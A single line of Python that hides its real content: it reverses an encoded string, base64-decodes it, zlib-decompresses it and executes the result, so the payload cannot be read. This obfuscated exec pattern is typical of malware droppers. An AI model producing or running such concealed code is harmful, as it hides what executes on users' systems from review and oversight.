_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=4gEMkDAu0ETqioAAIl40aNMV/0SMrEKTxMyUhsUvssSkXdTMv0yW/CyRvCzKjiKm/CyRpyLI3CzLzJe'))
